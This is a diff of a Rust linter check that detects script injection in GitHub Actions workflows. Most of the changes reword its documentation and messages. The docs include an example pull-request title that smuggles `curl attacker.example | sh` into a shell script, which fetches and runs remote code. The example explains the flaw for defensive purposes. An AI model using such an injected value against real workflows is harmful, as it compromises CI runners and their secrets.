@@ -1,4 +1,4 @@
-//! `untrusted-input-in-script`: an expression puts what others write into a script, before a shell reads it.
+//! `untrusted-input-in-script`: an expression inserts untrusted text into a script before the shell parses it.
 
 use std::cmp::Reverse;
 
@@ -18,27 +18,26 @@ pub(crate) static CHECK: Check = Check {
         severity: Severity::Medium,
         confidence: Confidence::High,
         family: Family::Workflow,
-        remedy: "give the value to the script through `env:`, and write `\"$NAME\"` in the script: then the shell does not read it as commands",
+        remedy: "pass the value through `env:` and write `\"$NAME\"` in the script, so that the shell does not parse it as commands",
         docs: r#"
 ## What it does
-Follows what others write into the scripts of workflows and composite actions: `run`, the `script` of
-`actions/github-script`, and the inputs of well-known actions that are run as code. A value is followed through
+Follows untrusted values into the scripts of workflows and composite actions: `run`, the `script` of
+`actions/github-script`, and inputs of well-known actions that are run as code. Values are followed through
 `env`, the outputs of steps and jobs, the matrix, the inputs of local actions and of local reusable workflows.
 
-The severity says what the writer gets:
+The severity depends on what the writer gains:
 
-- `critical`: anyone starts the job, and it holds a secret or a token that may write;
-- `high`: anyone starts it, and the repository's settings decide what its token may do;
-- `medium`: anyone starts it but gets at nothing (a pull request from a fork), a condition keeps strangers out, or
-  only those can write the value who may write to the repository, start a run, or call the action.
+- `critical`: anyone can start the job, and it holds a secret or a write token;
+- `high`: anyone can start it, and the repository's settings decide what its token may do;
+- `medium`: anyone can start it but gains nothing (a pull request from a fork), a condition keeps strangers out, or only
+  people who can write to the repository, start a run or call the action control the value.
 
-The message names what starts the job, the value and what is within reach; the places in between are listed. What no
-stranger can write is one finding for the repository, with all its places.
+The message names the event, the value and what it reaches; the places in between are listed. Values that strangers
+cannot control are one finding for the repository, with all its places.
 
 ## Why is this bad
-GitHub puts the value of `${{ … }}` into the text of the script before the shell starts. A title such as
-`a"; curl attacker.example | sh; "` is then three commands. It was the way into the attacks on Ultralytics (2024) and
-Nx (2025).
+GitHub inserts the value of `${{ … }}` into the script before the shell starts. A title such as `a"; curl
+attacker.example | sh; "` then becomes three commands. The attacks on Ultralytics (2024) and Nx (2025) started this way.
 
 ## Example
 ```yaml
@@ -63,9 +62,9 @@ jobs:
 ```
 
 ## Known problems
-What an action does with its inputs is not known, but for those in a list. Outputs of actions of others are taken
-for harmless, but for those that are known to hold names of files, branches or comments. Numbers, commit ids, names
-of users (letters, digits and hyphens) and choices between constants are harmless.
+What an action does with its inputs is known only for listed actions. Outputs of other actions are treated as harmless
+unless they are known to hold file names, branch names or comments. Numbers, commit ids, user names (letters, digits and
+hyphens) and choices between constants are harmless.
 
 ## References
 - <https://docs.github.com/en/actions/concepts/security/script-injections>
@@ -74,7 +73,7 @@ of users (letters, digits and hyphens) and choices between constants are harmles
     run: Run::Repository { preset: Preset::Default, reads: Reads::Workflows, whole: false, run },
 };
 
-/// Inputs of actions that are run as a script.
+/// Inputs of actions that run as a script.
 const SCRIPTS: [(&str, &[&str]); 18] = [
     ("actions/github-script", &["script"]),
     ("azure/cli", &["inlineScript"]),
@@ -105,14 +104,14 @@ fn run(repository: &Repository, reports: &mut Reports<'_>) {
     }
 }
 
-/// The texts of `step` that are run as scripts.
+/// The texts of `step` that run as scripts.
 fn scripts(step: &Step) -> impl Iterator<Item = &Text> {
     let inputs = SCRIPTS.iter().filter(|(action, _)| step.uses_any(&[action]));
     let given = inputs.flat_map(|(_, names)| names.iter().filter_map(|name| step.input(name)));
     step.run.iter().chain(given)
 }
 
-/// Reports each value that comes into `script`, once, with all places of it.
+/// Reports each value that reaches `script` once, with all its places.
 fn judge(repository: &Repository, site: Site<'_>, script: &Text, reports: &mut Reports<'_>) {
     let mut values: Vec<(Flow<'_>, Vec<Span>, &str)> = Vec::new();
     for expression in script.expressions() {
@@ -127,14 +126,14 @@ fn judge(repository: &Repository, site: Site<'_>, script: &Text, reports: &mut R
     }
     let trust = if values.is_empty() { return } else { repository.trust(site) };
     let is_run = site.step.and_then(|step| step.run.as_ref()).is_some_and(|run| std::ptr::eq(run, script));
-    let what = if is_run { "this script" } else { "this input, which is run as a script" };
+    let what = if is_run { "this script" } else { "this input, which runs as a script" };
     for (flow, places, raw) in values {
         let Rated { severity, confidence, how } = rate(&flow, &trust);
         let message = format!("`{}` is expanded into {what}: {how}", flow.context);
         let reported = reports.at(site, places[0], message);
         reported.severity(severity).confidence(confidence);
         if flow.writer < Writer::Stranger {
-            // What no stranger can do is a practice, not a danger at one line.
+            // What strangers cannot exploit is a practice, not a danger at one line.
             reported.note(format!("`{}`", flow.context)).practice(format!("`{}`", flow.context), MANY);
         } else if let Some(remedy) = remedy(site, is_run, raw) {
             reported.remedy(remedy);
@@ -152,8 +151,8 @@ fn judge(repository: &Repository, site: Site<'_>, script: &Text, reports: &mut R
     }
 }
 
-/// How the script is to read what the expression `raw` gives, as its shell spells that; nothing if that is more than one
-/// value, or if the shell is not known.
+/// How the script should read the value of the expression `raw` in its shell's syntax; none if that is more than one
+/// value, or if the shell is unknown.
 fn remedy(site: Site<'_>, is_run: bool, raw: &str) -> Option<String> {
     let context = raw.trim();
     let mut parts: Vec<&str> = context.rsplit('.').take(2).filter(|part| *part != "github").collect();
@@ -177,13 +176,12 @@ fn remedy(site: Site<'_>, is_run: bool, raw: &str) -> Option<String> {
         Some(_) => return None,
     };
     Some(format!(
-        "write `{name}: ${{{{ {context} }}}}` under the `env:` of the step, and `{read}` in the script: then nothing \
-         reads the value as commands"
+        "write `{name}: ${{{{ {context} }}}}` under the step's `env:`, and `{read}` in the script, so that the value is not parsed as commands"
     ))
 }
 
-/// What several of those are that no stranger writes.
-const MANY: &str = "values that callers or people with write access set are expanded into scripts";
+/// The message for several values that strangers cannot control.
+const MANY: &str = "values set by callers or people with write access are expanded into scripts";
 
 struct Rated {
     severity: Severity,
@@ -191,13 +189,13 @@ struct Rated {
     how: String,
 }
 
-/// What the writer of the value gets, by who starts the job.
+/// What the writer of the value gains, by who starts the job.
 fn rate(flow: &Flow<'_>, trust: &Trust<'_>) -> Rated {
     let medium = |how: String| Rated { severity: Severity::Medium, confidence: Confidence::High, how };
     match flow.writer {
         Writer::Computed => Rated {
             confidence: Confidence::Low,
-            ..medium("an earlier job computes it, from values that are not known".to_owned())
+            ..medium("an earlier job computes it from unknown values".to_owned())
         },
         Writer::Caller => medium("its caller can inject commands".to_owned()),
         Writer::Member => {
@@ -211,8 +209,9 @@ fn rate(flow: &Flow<'_>, trust: &Trust<'_>) -> Rated {
                 let event = &start.event.name.text;
                 let reach = trust.reach();
                 if trust.guard.is_some() {
-                    let how =
-                        format!("`{event}` runs it with {reach}; a condition limits who can inject commands");
+                    let how = format!(
+                        "`{event}` runs it with {reach}, but a condition limits who can inject commands"
+                    );
                     return Rated { confidence: Confidence::Medium, ..medium(how) };
                 }
                 let severity = match trust.is_exposed() {
